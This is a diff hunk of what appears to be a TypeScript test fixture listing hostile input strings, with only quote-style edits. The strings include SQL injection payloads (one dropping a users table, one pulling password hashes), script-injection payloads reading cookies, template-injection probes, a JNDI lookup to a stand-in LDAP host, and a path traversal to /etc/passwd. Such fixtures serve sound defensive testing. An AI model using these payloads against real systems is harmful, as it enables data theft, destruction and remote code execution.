@@ -34,9 +34,9 @@ export const UNICODE_EDGE_CASES: Record<string, string> = {
 export const HOSTILE_TEXT: Record<string, string> = {
   "SQL tautology": "' OR '1'='1' --",
   "SQL stacked": "Robert'); DROP TABLE users;--",
-  "SQL union": "1 UNION SELECT \"passwordHash\" FROM users",
+  "SQL union": '1 UNION SELECT "passwordHash" FROM users',
   "HTML script": "<script>alert(document.cookie)</script>",
-  "HTML attribute": "\"><img src=x onerror=alert(1)>",
+  "HTML attribute": '"><img src=x onerror=alert(1)>',
   templates: "{{7*7}} ${7*7} <%= 7*7 %>",
   "JNDI lookup": "${jndi:ldap://example.test/a}",
   "path traversal": "../../../../etc/passwd",
